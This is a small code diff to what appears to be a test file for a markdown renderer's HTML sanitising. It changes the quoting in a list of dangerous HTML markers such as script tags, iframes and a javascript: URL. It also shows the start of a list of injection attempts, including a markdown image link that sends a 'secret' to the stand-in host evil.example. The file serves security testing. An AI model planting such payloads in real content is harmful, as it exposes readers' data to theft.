@@ -8,7 +8,7 @@ from markdown_it import MarkdownIt
 from metier.text.plain import plain
 
 RENDER = MarkdownIt("gfm-like", {"html": True, "linkify": True, "breaks": True})
-LIVE = ("<a ", "<img", "<script", "<svg", "<iframe", "<b>", "javascript:alert(1)\"")
+LIVE = ("<a ", "<img", "<script", "<svg", "<iframe", "<b>", 'javascript:alert(1)"')
 
 ATTEMPTS = (
     "![x](http://evil.example/?d=secret)",
